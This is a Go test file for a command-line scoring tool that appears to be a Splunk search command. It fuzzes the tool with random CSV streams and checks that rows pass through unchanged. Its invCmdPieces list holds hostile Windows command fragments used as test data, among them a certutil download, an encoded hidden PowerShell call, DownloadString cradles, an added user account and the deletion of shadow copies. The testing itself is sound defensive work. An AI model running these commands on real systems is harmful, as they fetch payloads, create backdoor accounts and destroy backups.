package cli

// Stream invariants: random but reproducible streams (fixed seed) with
// odd field names, multivalue companions, multibyte text, quotes, quoted
// newlines, LF or CRLF per chunk, missing command line columns, empty and
// header-only chunks, run through the binary. Whatever the input, a reply
// must hold every input row, in order, with every input field unchanged
// byte for byte, plus the output fields.

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"testing"

	"scorecmdline/src/config"
	"scorecmdline/src/score"
)

// invChunk is one generated execute request.
type invChunk struct {
	finished bool
	body     string   // "" for a request without a body
	term     string   // the row terminator, "\n" or "\r\n"
	header   []string // column names, __mv_ companions included
	rawRows  []string // the header then each row, as sent, without terminator
	// vals are the values the command sees, per row and column (a CSV
	// decoder would turn a quoted "\r\n" into "\n"; the command does not).
	vals [][]string
}

// invStream is one generated search.
type invStream struct {
	args   []string
	chunks []invChunk
}

// Field names: hidden fields, names that need quoting, multibyte names.
// None is an output name or an __mv_ companion of one.
var invNames = []string{
	"process", "parent_process_name", "_time", "_raw", "_chunked_idx", "host", "dest", "user",
	"tag::eventtype", "Process Name", `we"ird`, "a,b", "ทดสอบ", "日本", "_cd", "count", "x\ny",
}

var invCmdPieces = []string{
	"cmd.exe /c whoami", "powershell -nop -w hidden -enc SQBFAFgA", "certutil -urlcache -split -f http://10.0.0.1/a.exe a.exe",
	"net user bob P@ss /add", "schtasks /create /tn x /tr calc.exe", "vssadmin delete shadows /all /quiet",
	"New-Object System.Net.WebClient", "IEX", "rundll32.exe javascript:", `C:\Windows\System32\cmd.exe`,
	"^c^e^r^t^u^t^i^l", "-EncodedCommand", "DownloadString('http://x/y')", "bitsadmin /transfer",
}

var invOddPieces = []string{
	",", `"`, `""`, "\n", "\r\n", "$", "$$", ";", " ", "  ", "ทดสอบ", "日本語", "😀", "é", "\t", "'", "`",
	"%COMSPEC%", `a,b"c`, "x", "42",
}

func invValue(rng *rand.Rand, cmdlike bool) string {
	if rng.IntN(10) == 0 {
		return ""
	}
	n := 1 + rng.IntN(6)
	if cmdlike && rng.IntN(5) == 0 {
		n = 10 + rng.IntN(20) // long enough for the model's length gate
	}
	var b strings.Builder
	for i := range n {
		if i > 0 && rng.IntN(2) == 0 {
			b.WriteByte(' ')
		}
		if cmdlike && rng.IntN(3) > 0 {
			b.WriteString(invCmdPieces[rng.IntN(len(invCmdPieces))])
		} else {
			b.WriteString(invOddPieces[rng.IntN(len(invOddPieces))])
		}
	}
	return b.String()
}

// invEncodeMV is the __mv_ encoding of a list of values.
func invEncodeMV(vals []string) string {
	var b strings.Builder
	for i, v := range vals {
		if i > 0 {
			b.WriteByte(';')
		}
		b.WriteString("$" + strings.ReplaceAll(v, "$", "$$") + "$")
	}
	return b.String()
}

// Quoting styles: splunkd's (quote unless ASCII alphanumeric, empty bare),
// minimal (only when needed), all (even empty values).
const (
	quoteSplunkd = iota
	quoteMinimal
	quoteAll
)

func invField(v string, style int) string {
	need := strings.ContainsAny(v, ",\"\r\n")
	alnum := v != "" && strings.IndexFunc(v, func(r rune) bool {
		return !('a' <= r && r <= 'z' || 'A' <= r && r <= 'Z' || '0' <= r && r <= '9')
	}) < 0
	switch {
	case style == quoteAll, need, style == quoteSplunkd && v != "" && !alnum:
		return `"` + strings.ReplaceAll(v, `"`, `""`) + `"`
	}
	return v
}

func invGenChunk(rng *rand.Rand, finished bool) invChunk {
	c := invChunk{finished: finished, term: "\n"}
	if rng.IntN(10) == 0 {
		return c // no body at all
	}
	if rng.IntN(2) == 0 {
		c.term = "\r\n"
	}
	// The plain fields: process in most chunks, then 1 to 7 others.
	names := slices.Clone(invNames[1:])
	rng.Shuffle(len(names), func(i, j int) { names[i], names[j] = names[j], names[i] })
	plain := names[:1+rng.IntN(7)]
	if rng.IntN(8) > 0 {
		plain = slices.Insert(plain, rng.IntN(len(plain)+1), "process")
	}
	mvAll := rng.IntN(2) == 0 // splunkd sends a companion for every field
	grouped := rng.IntN(3) > 0
	type col struct {
		name   string
		of     int // for a companion: the column of its field; else -1
		hasMV  bool
		mvCol  int
		plainI int
	}
	var cols []col
	for i, n := range plain {
		cols = append(cols, col{name: n, of: -1, plainI: i, mvCol: -1})
	}
	var mvs []col
	for i := range cols {
		if mvAll || rng.IntN(3) == 0 {
			mvs = append(mvs, col{name: "__mv_" + cols[i].name, of: i})
		}
	}
	if grouped {
		cols = append(cols, mvs...)
	} else {
		for k := len(mvs) - 1; k >= 0; k-- {
			cols = slices.Insert(cols, mvs[k].of+1, mvs[k])
		}
	}
	for i, cl := range cols {
		if cl.of >= 0 {
			for j := range cols {
				if cols[j].of < 0 && cols[j].plainI == cl.of {
					cols[j].hasMV, cols[j].mvCol = true, i
				}
			}
		}
	}
	style := rng.IntN(3)
	for _, cl := range cols {
		c.header = append(c.header, cl.name)
	}
	var hdr []string
	for _, n := range c.header {
		hdr = append(hdr, invField(n, style))
	}
	c.rawRows = append(c.rawRows, strings.Join(hdr, ","))

	var rows int
	switch k := rng.IntN(10); {
	case k == 0:
		rows = 0 // header only
	case k < 6:
		rows = 1 + rng.IntN(20)
	case k < 9:
		rows = 50 + rng.IntN(250)
	default:
		rows = 1000 + rng.IntN(2000) // over 64 KiB: split between workers
	}
	for r := range rows {
		vals := make([]string, len(cols))
		for i, cl := range cols {
			if cl.of >= 0 {
				continue
			}
			switch {
			case cl.name == "_chunked_idx":
				vals[i] = strconv.Itoa(r)
			case cl.name == "_time":
				vals[i] = strconv.Itoa(1700000000 + r)
			case cl.hasMV && rng.IntN(4) == 0:
				mv := make([]string, 2+rng.IntN(3))
				for k := range mv {
					mv[k] = invValue(rng, cl.name == "process")
				}
				vals[i] = strings.Join(mv, "\n")
				vals[cl.mvCol] = invEncodeMV(mv)
			default:
				vals[i] = invValue(rng, cl.name == "process" || cl.name == "parent_process_name")
			}
		}
		// A row must not be a blank line: encoding/csv would skip it.
		if len(cols) == 1 && vals[0] == "" {
			vals[0] = "x"
		}
		fields := make([]string, len(vals))
		for i, v := range vals {
			fields[i] = invField(v, style)
		}
		c.vals = append(c.vals, vals)
		c.rawRows = append(c.rawRows, strings.Join(fields, ","))
	}
	c.body = strings.Join(c.rawRows, c.term) + c.term
	if rng.IntN(10) == 0 {
		c.body = strings.TrimSuffix(c.body, c.term) // no terminator after the last line
		if rows == 0 {
			c.term = "\n" // nothing shows the input's terminator: LF is the default
		}
	}
	return c
}

var invArgs = [][]string{nil, nil, nil, {"explain=t"}, {"prefix=x_"}, {"rules=none"}, {"model=none", "explain=1"},
	{"field=process", "parent_field=parent_process_name"}}

func invGenStream(rng *rand.Rand) invStream {
	s := invStream{args: invArgs[rng.IntN(len(invArgs))]}
	n := 1 + rng.IntN(8)
	finalEmpty := rng.IntN(2) == 0
	for i := range n {
		last := i == n-1
		s.chunks = append(s.chunks, invGenChunk(rng, last && !finalEmpty))
	}
	if finalEmpty {
		s.chunks = append(s.chunks, invChunk{finished: true})
	}
	return s
}

func (s invStream) bytes() []byte {
	var b strings.Builder
	b.WriteString(getinfo(s.args...))
	for _, c := range s.chunks {
		b.WriteString(execute(c.finished, c.body))
	}
	return []byte(b.String())
}

// invSample is a scored row kept to compare with `scorecmdline score`.
type invSample struct {
	process, parent string
	hasParent       bool
	outputs         map[string]string
}

func TestStreamInvariants(t *testing.T) {
	const streams = 50
	rng := rand.New(rand.NewPCG(6, 3))
	var samples []invSample
	var chunks, empty, headerOnly, crlf, big, rows, size int
	for k := range streams {
		s := invGenStream(rng)
		for _, c := range s.chunks {
			chunks++
			size += len(c.body)
			switch {
			case c.body == "":
				empty++
			case len(c.vals) == 0:
				headerOnly++
			}
			if c.term == "\r\n" {
				crlf++
			}
			if len(c.body) > 64<<10 {
				big++
			}
			rows += len(c.vals)
		}
		t.Run(fmt.Sprint(k), func(t *testing.T) {
			samples = append(samples, checkStream(t, s)...)
		})
	}
	t.Logf("%d streams, %d chunks (%d without body, %d header-only, %d CRLF, %d over 64 KiB), %d rows, %d bytes; %d rows compared with score",
		streams, chunks, empty, headerOnly, crlf, big, rows, size, min(len(samples), 400))
	if len(samples) > 400 { // spread the sample over the streams
		var spread []invSample
		for i := range 400 {
			spread = append(spread, samples[i*len(samples)/400])
		}
		samples = spread
	}
	t.Run("score tool agrees", func(t *testing.T) { checkAgainstScoreTool(t, samples) })
}

// checkStream runs one stream and checks every invariant. It returns
// scored rows of streams with the default options.
func checkStream(t *testing.T, s invStream) []invSample {
	opts := score.Defaults()
	optMap := map[string]string{}
	for _, a := range s.args {
		n, v, _ := strings.Cut(a, "=")
		optMap[n] = v
	}
	if err := config.Decode(optMap, &opts); err != nil {
		t.Fatal(err)
	}
	outs := outputNames(t, opts)
	in := s.bytes()
	r := runChild(t, bytes.NewReader(in))
	if r.code != 0 {
		t.Fatalf("exit %d\nstderr: %s\nargs %q", r.code, r.stderr, s.args)
	}
	rs := splitReplies(t, r.stdout)
	if len(rs) != 1+len(s.chunks) {
		t.Fatalf("%d replies to %d requests", len(rs), 1+len(s.chunks))
	}
	var wantReq []any
	wantReq = append(wantReq, opts.Field)
	if len(opts.Rules) > 0 && opts.Rules[0] != "none" {
		wantReq = append(wantReq, opts.ParentField)
	}
	if rs[0].meta["type"] != "streaming" || fmt.Sprint(rs[0].meta["required_fields"]) != fmt.Sprint(wantReq) {
		t.Errorf("getinfo reply %v, want required_fields %v", rs[0].meta, wantReq)
	}
	keep := len(s.args) == 0
	var samples []invSample
	for i, c := range s.chunks {
		rep := rs[i+1]
		if len(rep.meta) != 1 || rep.meta["finished"] != c.finished {
			t.Errorf("chunk %d: reply metadata %v, want only finished:%v", i, rep.meta, c.finished)
		}
		if c.body == "" {
			if len(rep.body) != 0 {
				t.Errorf("chunk %d: empty request, reply body %.200q", i, rep.body)
			}
			continue
		}
		samples = append(samples, checkChunk(t, i, c, rep.body, opts.Field, outs, keep)...)
	}
	return samples
}

func checkChunk(t *testing.T, i int, c invChunk, reply []byte, field string, outs []string, keep bool) []invSample {
	t.Helper()
	req := readCSV(t, []byte(c.body))
	rep := readCSV(t, reply)
	wantHdr := append(slices.Clone(c.header), outs...)
	if !slices.Equal(rep[0], wantHdr) {
		t.Errorf("chunk %d: reply header %q, want %q", i, rep[0], wantHdr)
		return nil
	}
	if len(rep) != len(req) || len(req)-1 != len(c.vals) {
		t.Errorf("chunk %d: %d rows out, %d in", i, len(rep)-1, len(req)-1)
		return nil
	}
	ncol := len(c.header)
	fi := slices.Index(c.header, field)
	pi := slices.Index(c.header, "parent_process_name")
	var samples []invSample
	for j := 1; j < len(req); j++ {
		if !slices.Equal(rep[j][:ncol], req[j]) {
			t.Errorf("chunk %d row %d: input fields changed:\n got %q\nwant %q", i, j, rep[j][:ncol], req[j])
			continue
		}
		outVals := rep[j][ncol:]
		if fi < 0 || c.vals[j-1][fi] == "" {
			if strings.Join(outVals, "") != "" {
				t.Errorf("chunk %d row %d: no command line but outputs %q", i, j, outVals)
			}
			continue
		}
		if keep {
			smp := invSample{process: c.vals[j-1][fi], outputs: map[string]string{}}
			if pi >= 0 {
				smp.parent, smp.hasParent = c.vals[j-1][pi], true
			}
			for k, n := range outs {
				smp.outputs[n] = outVals[k]
			}
			samples = append(samples, smp)
		}
	}
	// Byte for byte: each reply line starts with the request line's bytes
	// and a comma, and ends with the request's terminator.
	cr := csv.NewReader(bytes.NewReader(reply))
	cr.FieldsPerRecord = -1
	for j, raw := range c.rawRows {
		start := cr.InputOffset()
		if _, err := cr.Read(); err != nil {
			t.Fatalf("chunk %d line %d: %v", i, j, err)
		}
		line := string(reply[start:cr.InputOffset()])
		if !strings.HasPrefix(line, raw+",") {
			t.Errorf("chunk %d line %d: reply line %.120q does not start with the request's %.120q", i, j, line, raw)
		}
		if !strings.HasSuffix(line, c.term) || (c.term == "\n" && strings.HasSuffix(line, "\r\n")) {
			t.Errorf("chunk %d line %d: reply line %.120q does not end with %q", i, j, line, c.term)
		}
	}
	return samples
}

// checkAgainstScoreTool scores the sampled command lines with
// `scorecmdline score --format json` and compares every output field with
// what the search command returned for the same row.
func checkAgainstScoreTool(t *testing.T, samples []invSample) {
	if len(samples) < 50 {
		t.Fatalf("only %d sampled rows: the generator is broken", len(samples))
	}
	var in bytes.Buffer
	for _, s := range samples {
		obj := map[string]string{"process": s.process}
		if s.hasParent {
			obj["parent_process_name"] = s.parent
		}
		js, _ := json.Marshal(obj)
		in.Write(js)
		in.WriteByte('\n')
	}
	r := runChild(t, &in, "score", "--format", "json", "--input", "jsonl", "--field", "process", "--parent-field", "parent_process_name")
	if r.code != 0 {
		t.Fatalf("score: exit %d: %s", r.code, r.stderr)
	}
	dec := json.NewDecoder(bytes.NewReader(r.stdout))
	dec.UseNumber()
	for i, s := range samples {
		var got map[string]any
		if err := dec.Decode(&got); err != nil {
			t.Fatalf("score output line %d: %v", i+1, err)
		}
		if got["line"] != json.Number(strconv.Itoa(i+1)) || got["cmdline"] != s.process {
			t.Fatalf("score output line %d is for line %v %q", i+1, got["line"], got["cmdline"])
		}
		for name, want := range s.outputs {
			if strings.HasPrefix(name, "__mv_") {
				continue // the search command's encoding of the same values
			}
			var v string
			switch x := got[name].(type) {
			case json.Number:
				v = x.String()
			case string:
				v = x
			case []any:
				var parts []string
				for _, p := range x {
					parts = append(parts, fmt.Sprint(p))
				}
				v = strings.Join(parts, "\n")
			case nil:
			default:
				t.Fatalf("%s: unexpected JSON %T", name, x)
			}
			if v != want {
				t.Errorf("row %d %.80q: %s = %q by the search command, %q by score", i, s.process, name, want, v)
			}
		}
	}
	if _, err := dec.Token(); err != io.EOF {
		t.Errorf("score printed more lines than it was given")
	}
}
